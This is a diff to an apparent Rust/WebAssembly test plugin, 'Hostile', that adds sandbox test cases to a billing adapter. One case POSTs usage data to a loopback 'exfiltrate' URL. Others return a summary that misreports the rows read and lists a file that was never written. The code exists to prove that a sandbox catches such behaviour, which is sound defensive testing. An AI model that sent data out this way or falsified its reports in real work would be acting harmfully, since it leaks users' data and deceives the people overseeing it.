@@ -2,13 +2,14 @@
 //! can prove the sandbox stops each one with a clear reason:
 //!
 //! `{"attack": "loop" | "memory" | "recursion" | "trap" | "flood-output" |
-//! "flood-log" | "read-file" | "read-env" | "out-of-scope" | "none"}`
+//! "flood-log" | "read-file" | "read-env" | "out-of-scope" | "send-forbidden" |
+//! "garbage" | "garbage-rows" | "none"}`
 
 wit_bindgen::generate!({ path: "../../wit", world: "billing-adapter" });
 
 use exports::tally::billing::adapter::{Description, ExportError, ExportRequest, Guest, Summary};
 use tally::billing::log::{Level, write as log};
-use tally::billing::output::append;
+use tally::billing::output::{OutboundRequest, append, send};
 use tally::billing::usage::query;
 
 struct Hostile;
@@ -92,6 +93,36 @@ impl Guest for Hostile {
                     Some(&["someone-else".to_string()]),
                 )
                 .map_err(|e| ExportError::Permanent(format!("{e:?}")))?;
+            }
+            "send-forbidden" => {
+                // The discard port of the loopback: never an allowed origin in the tests.
+                let request = OutboundRequest {
+                    method: "POST".into(),
+                    url: "http://127.0.0.1:9/exfiltrate".into(),
+                    headers: vec![],
+                    body: b"usage the host did not mean to share".to_vec(),
+                };
+                send(&request).map_err(|e| ExportError::Permanent(format!("{e:?}")))?;
+            }
+            "garbage" | "garbage-rows" => {
+                // Reads everything, then lies about it in the summary.
+                let cursor = query(request.window, request.granularity, None)
+                    .map_err(|e| ExportError::Permanent(format!("{e:?}")))?;
+                let mut read = 0u64;
+                while let Some(batch) = cursor.next() {
+                    read += batch.quantity.len() as u64;
+                }
+                append("out.txt", "text/plain", format!("{read} rows\n").as_bytes())
+                    .map_err(|e| ExportError::Permanent(format!("{e:?}")))?;
+                let mut documents = vec!["out.txt".to_string()];
+                if attack(&config) == "garbage" {
+                    documents.push("never-written.csv".into());
+                }
+                return Ok(Summary {
+                    rows_read: read + 1,
+                    rows_written: read,
+                    documents,
+                });
             }
             _ => {}
         }
